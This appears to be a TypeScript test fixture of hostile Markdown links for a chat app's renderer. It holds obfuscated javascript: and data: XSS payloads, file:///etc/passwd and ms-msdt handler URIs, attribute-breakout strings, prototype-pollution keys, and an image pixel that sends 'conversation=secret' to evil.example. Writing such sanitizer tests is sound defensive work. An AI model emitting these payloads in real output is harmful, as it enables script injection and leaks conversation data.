// Addresses that want to be more than an address. Own, and as reported to other chat windows and Markdown libraries.

const script = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "\u0001javascript:alert(1)", "javascript:/*https://example.com*/alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:TEXT/HTML,x", "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,x", "blob:https://example.com/1", "file:///etc/passwd", "tauri://localhost/index.html", "ipc://localhost/send_message", "http://ipc.localhost/send_message\u0000javascript:", "about:blank", "view-source:https://example.com", "ms-msdt:/id PCWDiagnostic", "search-ms:query=x", "smb://evil.example/share", "//evil.example/x", "\\\\evil.example\\share", "https:javascript:alert(1)", "chrome://settings", "intent://x#Intent;end", "jar:https://evil.example!/x"];

export const links: Record<string, string> = {
  ...Object.fromEntries(script.flatMap((address, index) => [
    [`link ${index}: ${address}`, `[click](${address})`],
    [`bracketed link ${index}`, `[click](<${address}>)`],
    [`reference ${index}`, `[click][r]\n\n[r]: <${address}>`],
    [`autolink ${index}`, `<${address}>`],
    [`picture ${index}`, `![x](<${address}>)`],
  ])),
  "a link in a link's title": `[a](https://a.example "onmouseover=alert(1)\\" onclick=alert(1)")`,
  "a quote out of an address": `[a](https://a.example/"onmouseover="alert(1))`,
  "a picture inside a link": "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "a picture whose name is markup": `![" onerror="alert(1)](https://evil.example/a.png)`,
  "a picture that counts readers": "![pixel](https://evil.example/p?conversation=secret)",
  "a picture by reference": "![pixel][p]\n\n[p]: https://evil.example/p.gif",
  "a picture over plain http": "![a](http://127.0.0.1:4141/v1/models)",
  "a footnote that links": "a[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
  "a footnote named for its target": `a[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: b`,
  "names taken from the page": "# constructor\n\n[__proto__][__proto__]\n\n[__proto__]: javascript:alert(1)\n\n[toString][]",
};
